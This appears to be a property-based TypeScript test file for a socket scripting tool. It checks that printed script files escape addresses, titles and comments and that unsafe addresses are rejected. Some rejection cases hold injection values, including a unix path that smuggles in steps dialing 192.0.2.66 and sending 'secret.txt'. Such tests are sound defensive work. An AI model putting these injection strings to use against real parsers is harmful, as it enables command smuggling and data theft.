import assert from 'node:assert/strict';
import fc from 'fast-check';
import { SockscopeError } from '../../../../src/base/error';
import { formatEndpoint, parseEndpoint } from '../../../../src/engine/address/endpoint';
import type { SocketAddress } from '../../../../src/engine/address/socketAddress';
import { dialableAddress, escapeText, printAddress } from '../../../../src/wire/syntax/addressPrinter';
import { allProblems, checkScript } from '../../../../src/wire/check/checker';
import { textOf } from '../../../../src/wire/check/definitions';
import { encodePayload } from '../../../../src/wire/payload/encoder';
import { parsePayload } from '../../../../src/wire/payload/parser';
import { printExpectationOf, printSending } from '../../../../src/wire/syntax/sendingSection';

/** What means something in wire files, in paths and to terminals, and some text around it. */
const UNITS = [
  ...Array.from('ab09/:.%@[]{}"\\# \t\n\r=<>?()\'$-_\0'),
  '{{',
  '}}',
  '###',
  '\u202e',
  '\u2028',
  '\u00a0',
  'é',
  '😀',
  '\ud800',
];
const text = (size: number): fc.Arbitrary<string> => fc.string({ unit: fc.constantFrom(...UNITS), maxLength: size });
const bytes = fc.oneof(
  fc.uint8Array({ minLength: 1, maxLength: 40 }),
  text(30).map((each) => new TextEncoder().encode(`x${each}`)),
);
const port = fc.integer({ min: 1, max: 65_535 });
const ip = (address: fc.Arbitrary<string>): fc.Arbitrary<SocketAddress> =>
  fc.record({ family: fc.constant('ip' as const), address, port });
const end: fc.Arbitrary<SocketAddress> = fc.oneof(
  text(20).map((path) => ({ family: 'unix' as const, path })),
  text(20).map((path) => ({ family: 'unix' as const, path: `/${path}` })),
  ip(fc.ipV4()),
  ip(fc.ipV6()),
  ip(text(20)),
);

/** Reads the file back: whom it dials, and what it sends there. */
async function readBack(file: string): Promise<{ address: string | undefined; sent: Uint8Array }> {
  const checked = checkScript(file);
  assert.deepEqual(allProblems(checked), [], file);
  const { sections, definitions } = checked.script;
  assert.deepEqual([sections.length, definitions.length], [1, 0], file);
  const [dial, send, ...others] = sections[0]!.steps;
  assert.ok(dial?.kind === 'dial' && send?.kind === 'send', file);
  assert.deepEqual([others, send.to, send.within, dial.within], [[], undefined, undefined, undefined]);
  return {
    address: textOf(dial.address.parts, new Map()),
    sent: await encodePayload(send.terms, { readFile: () => assert.fail('it reads a file') }),
  };
}

describe('a wire file that sends bytes again', () => {
  it('is read back as exactly these bytes, that address and no other step', async () => {
    let dialled = 0;
    await fc.assert(
      fc.asyncProperty(
        end,
        fc.constantFrom('tcp' as const, 'udp' as const),
        bytes,
        text(30),
        fc.array(text(30), { maxLength: 2 }),
        async (where, transport, wanted, title, comments) => {
          let address: string;
          try {
            address = dialableAddress(transport, where);
            dialled++;
          } catch (error) {
            assert.ok(error instanceof SockscopeError);
            address = 'tcp://127.0.0.1:9000';
          }
          const read = await readBack(printSending({ title, comments, address, bytes: wanted }));
          assert.equal(read.address, address);
          assert.deepEqual(read.sent, wanted);
        },
      ),
      { numRuns: 600 },
    );
    assert.ok(dialled > 120, `${dialled} of the addresses could be dialled`);
  });

  it('dials the end that it was given, whatever is around it', () => {
    fc.assert(
      fc.property(end, (where) => {
        let address: string;
        try {
          address = dialableAddress('tcp', where, 'linux');
        } catch (error) {
          assert.ok(error instanceof SockscopeError);
          return;
        }
        const endpoint = parseEndpoint(address, 'linux');
        assert.equal(formatEndpoint(endpoint), address);
        if (where.family !== 'ip') assert.deepEqual(endpoint, { scheme: where.family, path: where.path });
        else assert.ok(endpoint.scheme === 'tcp' && endpoint.port === where.port);
      }),
      { numRuns: 2000 },
    );
  });

  for (const [what, where] of [
    ['an unnamed socket', { family: 'unix', path: '' }],
    ['a relative path', { family: 'unix', path: 'x.sock' }],
    ['lines', { family: 'unix', path: '/tmp/x\nevil = dial tcp://192.0.2.66:80\nevil > file("secret.txt")\n#' }],
    ['a carriage return', { family: 'unix', path: '/tmp/\rx' }],
    ['a direction mark', { family: 'unix', path: '/tmp/\u202ekcos.x' }],
    ['half a pair', { family: 'unix', path: '/tmp/\ud800' }],
    ['a blank at its end', { family: 'unix', path: '/tmp/x ' }],
    ['two slashes first', { family: 'unix', path: '///x' }],
    ['a path too long', { family: 'unix', path: `/${'x'.repeat(200)}` }],
    ['port 0', { family: 'ip', address: '127.0.0.1', port: 0 }],
    ['steps for an address', { family: 'ip', address: '1\nx > file("a")', port: 1 }],
    ['another port in its address', { family: 'ip', address: '127.0.0.1]:5', port: 1 }],
    ['no zone', { family: 'ip', address: 'fe80::1', port: 1 }],
    ['a zone with a direction mark', { family: 'ip', address: 'fe80::1%\u202e', port: 1 }],
  ] as const) {
    it(`does not dial ${what}`, () => {
      assert.throws(() => dialableAddress('tcp', where, 'linux'), SockscopeError);
    });
  }

  for (const [what, where, address] of [
    ['blanks', { family: 'unix', path: '/tmp/a b' }, 'unix:/tmp/a b'],
    ['quotes and braces', { family: 'unix', path: '/tmp/"{{x}}"#' }, 'unix:/tmp/"{{x}}"#'],
    ['IPv6', { family: 'ip', address: '0:0:0:0:0:0:0:1', port: 5 }, 'tcp://[::1]:5'],
    ['a zone', { family: 'ip', address: 'fe80::1%eth0', port: 5 }, 'tcp://[fe80::1%eth0]:5'],
  ] as const) {
    it(`dials ${what}`, async () => {
      assert.equal(dialableAddress('tcp', where, 'linux'), address);
      const file = printSending({ title: 'T', comments: [], address, bytes: Uint8Array.of(1) });
      assert.equal((await readBack(file)).address, address);
    });
  }

  it('has titles and comments of one line that is not endless', () => {
    const file = printSending({
      title: 'x\ny',
      comments: ['from\r\u202e', 'y'.repeat(9999)],
      address: '9',
      bytes: Uint8Array.of(104, 105),
    });
    assert.equal(file, `### x␊y\n# from␍\\u{202e}\n# ${'y'.repeat(499)}…\ncon = dial 9\ncon > "hi"\n`);
  });
});

describe('a step that expects bytes', () => {
  it('is read back as exactly these bytes, behind the steps that dial and send', async () => {
    const sending = printSending({ title: 'x', comments: [], address: '9', bytes: Uint8Array.of(1) });
    await fc.assert(
      fc.asyncProperty(bytes, async (expected) => {
        const file = `${sending}${printExpectationOf(expected)}`;
        const checked = checkScript(file);
        assert.deepEqual(allProblems(checked), [], file);
        const [, , step, ...others] = checked.script.sections[0]!.steps;
        assert.ok(step?.kind === 'expect' && step.expectation.kind === 'payload' && others.length === 0, file);
        const read = await encodePayload(step.expectation.terms, { readFile: () => assert.fail('it reads a file') });
        assert.deepEqual(read, expected);
      }),
    );
  });
});

describe('an address in a step', () => {
  it('stands in quotes only where it must', () => {
    assert.equal(printAddress('tcp://[fe80::1%eth0]:9000'), 'tcp://[fe80::1%eth0]:9000');
    assert.equal(printAddress('unix:/tmp/x.sock'), 'unix:/tmp/x.sock');
    assert.equal(printAddress('unix:/tmp/a b'), '"unix:/tmp/a b"');
    assert.equal(printAddress('unix:/tmp/{{x}}'), '"unix:/tmp/\\{\\{x}}"');
    assert.equal(printAddress(''), '""');
  });

  it('is any text between quotes', () => {
    fc.assert(
      fc.property(
        text(30).filter((each) => !/\p{Cs}/u.test(each)),
        (each) => {
          const { terms, problems } = parsePayload(`"${escapeText(each)}"`);
          assert.deepEqual(problems, []);
          const [term] = terms;
          assert.ok(terms.length === 1 && term?.kind === 'string');
          assert.equal(textOf(term.text.parts, new Map()) ?? '', each);
        },
      ),
      { numRuns: 500 },
    );
  });
});
